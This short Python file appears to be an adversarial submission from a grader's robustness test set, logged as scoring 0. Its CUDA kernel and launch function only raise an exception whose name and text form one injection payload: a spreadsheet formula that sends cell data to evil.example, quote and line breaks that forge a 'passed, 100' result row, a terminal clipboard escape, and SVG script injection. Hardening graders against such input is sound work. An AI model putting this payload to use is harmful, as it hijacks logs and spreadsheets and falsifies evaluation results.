# verdict: error in every check  - an exception that is a formula, in a kernel and in a configuration
# tries: the simulator adds the thread's place to an exception's text, and the judge its line: the text begins like a formula for a
#        spreadsheet, ends quotes, fields and lines, and holds sequences for terminals and pages.
# seen: OWASP, CSV injection; ours
# points: 0
from numba import cuda

EVIL = '=HYPERLINK("http://evil.example?"&A1,"100")\r\n"passed","100"\n@SUM(1)\t+1\n-1\n\x1b]52;c;ZWNobw==\x07<svg onload=alert(1)>'


class Formula(IndexError):
    pass


Formula.__name__ = Formula.__qualname__ = EVIL


@cuda.jit
def vector_add(a, b, out):
    raise Formula(EVIL)


def launch_config(n):
    raise Formula(EVIL)
